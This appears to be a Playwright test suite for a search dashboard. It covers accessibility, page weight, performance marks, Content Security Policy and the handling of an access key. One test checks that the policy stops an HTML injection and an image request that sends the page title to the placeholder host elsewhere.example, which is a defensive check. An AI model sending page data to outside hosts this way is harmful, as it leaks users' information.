"""Accessibility by axe, weight, the key, and what the browser itself measures."""

import pytest
from playwright.sync_api import Error

from devhost.child import ROOT
from tests.browser.conftest import names, settled, until
from tests.host import Host

SAMPLES = ROOT / "samples" / "images"
AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
HEAVIEST = 150_000
WHOSE = 'localStorage.setItem("name", "ada")'


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(
    "address",
    [
        "#/search?q=red dress",
        "#/search?q=red dress&item=red-dress",
        "#/search?q=xyzzy&f.colour=none",
        "#/upload",
        "#/jobs",
        "#/saved",
        "#/status",
    ],
)
def test_axe_finds_nothing_serious(opened, address, scheme):
    page = opened("#/upload", color_scheme=scheme, bypass_csp=True, reduced_motion="reduce")
    page.evaluate(WHOSE)
    page.goto(page.url.partition("#")[0] + address)
    page.reload()
    page.wait_for_load_state("networkidle")
    if "upload" in address:
        picture = SAMPLES / "teddy-bear" / "front.webp"
        page.set_input_files("#upload-files", picture)
        page.locator(".drafts > li").wait_for()
    page.evaluate(AXE.read_text())
    found = page.evaluate("axe.run()")["violations"]
    serious = [each for each in found if each["impact"] in ("serious", "critical")]
    told = [(each["id"], [node["html"][:120] for node in each["nodes"]]) for each in serious]
    assert told == []


def test_all_views_together_are_light(opened):
    """Without pictures; every view visited, so that what is loaded late counts as well."""
    page = opened("#/search?q=red dress", expected="400")  # nobody has given a name
    sizes = {}
    page.on("response", lambda got: sizes.update({got.url: len(got.body())}) if "/dashboard" in got.url else None)  # fmt: skip # noqa: E501
    page.reload()
    for view in ("upload", "jobs", "status", "saved"):
        page.evaluate(f"location.hash = '#/{view}'")
        page.wait_for_selector(f"[data-view={view}].work")
        page.keyboard.press("Escape")
    assert len(sizes) > 30
    assert sum(sizes.values()) < HEAVIEST


def test_the_browser_marks_when_results_are_painted(opened):
    """The figures are those of benchmarks/dashboard.py; here only that they can be had."""
    page = settled(opened("#/search?q=red dress"))
    until(lambda: page.evaluate("performance.getEntriesByName('results-painted').length"), "marked")
    marks = page.evaluate(
        "['search-started','response-received','results-painted']"
        ".map((name) => performance.getEntriesByName(name)[0].startTime)"
    )
    assert marks == sorted(marks)


def test_the_policy_stops_what_a_hole_would_let_in_and_tells_of_it(opened):
    page = settled(opened(expected="has been blocked"))
    with pytest.raises(Error, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<b>hurt</b>'")
    with page.expect_console_message(lambda said: "Content Security Policy" in said.text):
        page.evaluate("new Image().src = 'https://elsewhere.example/?' + document.title")


@pytest.fixture(scope="module")
def locked(tmp_path_factory):
    """A host that asks for a key, as Azure does."""
    host = Host(tmp_path_factory.mktemp("locked"), DEVHOST_KEY="open-sesame")
    yield host
    host.stop()


def test_the_key_is_asked_for_once_and_kept_in_the_tab_alone(chromium, locked):
    context = chromium.new_context(locale="en")
    page = context.new_page()
    page.goto(f"{locked.url}/api/dashboard")
    page.locator("dialog input[type=password]").fill("wrong")
    page.locator("dialog button.primary").click()
    page.get_by_text("The app refused that key").wait_for()
    page.locator("dialog input[type=password]").fill("open-sesame")
    page.locator("dialog button.primary").click()
    page.wait_for_selector("dialog", state="detached")
    settled(page)
    page.reload()
    settled(page)
    assert page.locator("dialog").count() == 0
    kept = page.evaluate("JSON.stringify([{...localStorage}, document.cookie])")
    assert "open-sesame" not in kept + page.url
    other = context.new_page()  # another tab asks again
    other.goto(f"{locked.url}/api/dashboard")
    other.wait_for_selector("dialog input[type=password]")
    context.close()


def test_pictures_come_with_the_key_as_well(chromium, locked):
    """<img> sends no header, and an address with a key in it would be kept in logs."""
    key = {"x-functions-key": "open-sesame"}
    with (SAMPLES / "teddy-bear" / "front.webp").open("rb") as picture:
        locked.client.post(
            "/api/v1/index-product-with-image",
            headers=key,
            data={"product_id": "bear", "name": "Bear"},
            files={"image_file": picture},
        ).raise_for_status()
    context = chromium.new_context(locale="en")
    page = context.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{locked.url}/api/dashboard")
    page.locator("dialog input[type=password]").fill("open-sesame")
    page.locator("dialog button.primary").click()
    picture = page.locator(".product[data-id=bear] img[src^='blob:']")
    picture.evaluate("img => img.decode()")
    assert picture.evaluate("img => img.naturalWidth") > 0
    assert not [url for url in asked if "open-sesame" in url]
    context.close()


def test_names_are_there_at_all(opened):
    assert len(names(settled(opened()))) > 10  # with nothing asked for, the catalogue
